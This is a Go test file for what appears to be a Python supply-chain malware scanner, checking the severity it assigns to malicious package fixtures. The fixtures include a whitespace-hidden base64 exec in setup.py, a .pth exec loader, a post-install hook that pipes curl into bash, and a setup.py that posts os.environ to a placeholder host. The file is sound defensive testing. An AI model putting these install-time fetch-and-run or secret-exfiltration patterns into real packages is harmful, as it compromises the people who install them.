package pybehavior_test

import (
	"os"
	"strings"
	"testing"

	"github.com/doorman-sec/doorman/analyzer"
	"github.com/doorman-sec/doorman/analyzer/analyzertest"
	"github.com/doorman-sec/doorman/analyzer/pkgmeta"
	"github.com/doorman-sec/doorman/analyzer/pybehavior"
	"github.com/doorman-sec/doorman/finding"
	"github.com/doorman-sec/doorman/internal/fixture"
)

const unpinned = `
import os, subprocess, sys, urllib.request
from setuptools import setup

def fetch_native(dest):
    data = urllib.request.urlopen("https://files.example.com/native.whl").read()
    path = os.path.join(dest, "native.whl")
    with open(path, "wb") as f:
        f.write(data)
    subprocess.check_call([sys.executable, "-m", "pip", "install", path])

setup(name="native-helper", version="1.2.0")
`

// The same code is worse in setup.py (run by pip at install) than in a
// library module, and only noted under tests/.
func TestPhases(t *testing.T) {
	w4sp := "from setuptools import setup" + strings.Repeat(" ", 300) + ";__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode('cHJpbnQoMSk='),'<string>','exec'))\nsetup(name='typosquat-demo', version='0.1')\n"
	r := scan(t, map[string]string{
		"pkg-1.0/setup.py":           unpinned,
		"pkg-1.0/pkg/native.py":      unpinned,
		"pkg-1.0/tests/test_net.py":  unpinned,
		"evil-0.1/setup.py":          w4sp,
		"site/evil.pth":              "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n",
		"cfg-1.0/setup.cfg":          "[metadata]\nname = cfgpkg\n\n[options]\npackages = find:\ncmdclass =\n    install = cfgpkg._hooks:PostInstall\n",
		"cfg-1.0/cfgpkg/_hooks.py":   "import os\nclass PostInstall:\n    def run(self):\n        os.system('curl -s https://example.com/i.sh | bash')\n",
		"cfg-1.0/cfgpkg/__init__.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
	})
	want := map[string]finding.Severity{
		"DM-PY-002@pkg-1.0/setup.py":           finding.Critical,
		"DM-PY-002@pkg-1.0/pkg/native.py":      finding.High,
		"DM-PY-002@pkg-1.0/tests/test_net.py":  finding.Low,
		"DM-PY-030@evil-0.1/setup.py":          finding.Critical,
		"DM-PY-032@evil-0.1/setup.py":          finding.Critical,
		"DM-PY-033@site/evil.pth":              finding.Critical,
		"DM-PY-030@site/evil.pth":              finding.Critical,
		"DM-PY-003@cfg-1.0/cfgpkg/_hooks.py":   finding.Critical,
		"DM-PY-030@cfg-1.0/cfgpkg/__init__.py": finding.High,
	}
	got := map[string]finding.Finding{}
	for _, f := range r.Findings {
		p := f.Location.Path
		for _, k := range []string{"pkg-1.0/", "evil-0.1/", "site/", "cfg-1.0/"} {
			if i := strings.Index(p, k); i >= 0 {
				p = p[i:]
			}
		}
		got[f.Rule+"@"+p] = f
	}
	for k, sev := range want {
		f, ok := got[k]
		if !ok {
			t.Errorf("missing %s; got %s", k, summaryOf(r.Findings))
			continue
		}
		if f.Severity != sev {
			t.Errorf("%s: severity %s, want %s (%s)", k, f.Severity, sev, f.Message)
		}
	}
	if f := got["DM-PY-002@pkg-1.0/setup.py"]; !strings.Contains(f.Message, "install") {
		t.Errorf("setup.py finding does not say why it is raised: %s", f.Message)
	}
	if f := got["DM-PY-030@cfg-1.0/cfgpkg/__init__.py"]; !strings.Contains(f.Message, "imported") {
		t.Errorf("__init__.py finding does not say it runs at import: %s", f.Message)
	}
}

// A malicious sdist as pip downloads it: a gzipped tarball.
func TestSdistTarball(t *testing.T) {
	tarball := fixture.Gzip(fixture.Tar([]fixture.File{
		{Path: "demo-0.1/PKG-INFO", Data: []byte("Metadata-Version: 2.1\nName: demo\nVersion: 0.1\n")},
		{Path: "demo-0.1/setup.py", Data: []byte("import os, requests\nfrom setuptools import setup\nrequests.post('https://example.invalid/x', data=str(dict(os.environ)))\nsetup(name='demo', version='0.1')\n")},
	}))
	dir := t.TempDir()
	path := dir + "/demo-0.1.tar.gz"
	if err := os.WriteFile(path, tarball, 0o644); err != nil {
		t.Fatal(err)
	}
	r := analyzertest.ScanPath(t, []*analyzer.Analyzer{pkgmeta.Analyzer, pybehavior.Analyzer}, path)
	fs := analyzertest.Find(r, "DM-PY-010", "demo-0.1/setup.py")
	if len(fs) != 1 || fs[0].Severity != finding.Critical || !strings.Contains(fs[0].Location.Path, "!/") {
		t.Fatalf("want one critical DM-PY-010 inside the tarball, got %s", summaryOf(r.Findings))
	}
}
